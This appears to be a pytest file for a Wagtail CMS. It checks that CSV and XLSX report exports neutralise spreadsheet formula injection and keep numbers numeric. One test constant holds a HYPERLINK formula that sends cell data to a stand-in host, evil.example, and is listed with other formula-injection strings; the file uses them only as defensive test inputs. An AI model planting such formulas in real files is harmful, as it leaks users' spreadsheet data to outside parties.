"""Every CSV and XLSX the service writes is formula-safe (docs/decisions/0116): text that a spreadsheet would
run starts with an apostrophe, numbers stay numbers. Wagtail's own report exports are tested through the admin
as a Content editor; the official DDaT download is the one exception (its byte-for-byte round trip is tested in
test_exporters.py)."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest

from cms.accounts.enums import Role as AccountRole
from cms.home.models import HomePage
from cms.standard_pages.models import StandardPage
from frameworks.spreadsheets import FormulaSafeCsvWriter, formula_safe, xlsx_row
from tests.cms.factories import SuperuserFactory, UserFactory

ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for details")'
DANGEROUS = [ATTACK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe():
    assert [formula_safe(text) for text in DANGEROUS] == ["'" + text for text in DANGEROUS]
    assert formula_safe("Data engineer") == "Data engineer"
    assert formula_safe("") == ""


def test_numbers_negative_ones_included_stay_numbers_in_csv_and_xlsx():
    buffer = io.StringIO(newline="")
    FormulaSafeCsvWriter(buffer, lineterminator="\n").writerows([[ATTACK, -42, -1.5, 7, None]])

    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + ATTACK, "-42", "-1.5", "7", ""]
    assert buffer.getvalue().endswith(",-42,-1.5,7,\n")

    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("Report")
    sheet.append(xlsx_row(sheet, [ATTACK, -42, -1.5, "-3"]))
    output = io.BytesIO()
    book.save(output)
    cells = next(openpyxl.load_workbook(io.BytesIO(output.getvalue())).active.iter_rows())
    assert [cell.value for cell in cells] == ["'" + ATTACK, -42, -1.5, "'-3"]
    assert [cell.data_type for cell in cells] == ["s", "n", "n", "s"]


@pytest.fixture
def hostile_page(db):
    editor = UserFactory(roles=[AccountRole.CONTENT_EDITOR])
    page = HomePage.objects.get().add_child(instance=StandardPage(title=ATTACK, slug="hostile", body=[]))
    page.save_revision(user=editor, log_action=True).publish(user=SuperuserFactory())
    return page


@pytest.fixture
def editor_client(client, db):
    client.force_login(UserFactory(roles=[AccountRole.CONTENT_EDITOR]))
    return client


def csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response) -> list:
    data = b"".join(response.streaming_content)
    return [cell for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]


@pytest.mark.parametrize(
    ("report", "role"),
    [("/admin/reports/site-history/", AccountRole.CONTENT_EDITOR), ("/admin/reports/aging-pages/", None)],
)
def test_wagtails_report_exports_write_a_hostile_page_title_as_text(client, hostile_page, report, role):
    client.force_login(UserFactory(roles=[role]) if role else SuperuserFactory())

    response = client.get(report + "?export=csv")

    assert response.status_code == 200
    cells = csv_cells(response)
    assert "'" + ATTACK in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    cells = xlsx_cells(client.get(report + "?export=xlsx"))
    assert "'" + ATTACK in [cell.value for cell in cells]
    assert not [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith("=")]
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_the_site_history_export_keeps_its_numbers_as_numbers(editor_client, hostile_page):
    cells = xlsx_cells(editor_client.get("/admin/reports/site-history/?export=xlsx"))

    ids = [cell for cell in cells if cell.value == hostile_page.pk]
    assert ids
    assert all(cell.data_type == "n" for cell in ids)


WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl\.Workbook\(|from openpyxl import Workbook|xlsxwriter")
EXEMPT = {"frameworks/spreadsheets.py", "frameworks/exporters/ddat_csv.py"}


def test_no_module_writes_a_spreadsheet_except_through_the_shared_writer():
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for app in ("frameworks", "skills", "courses", "cms")
        if (root / app).exists()
        for path in (root / app).rglob("*.py")
        if str(path.relative_to(root)) not in EXEMPT and WRITERS.search(path.read_text(encoding="utf-8"))
    ]

    assert offenders == [], "write CSV and XLSX through frameworks.spreadsheets (docs/decisions/0116)"
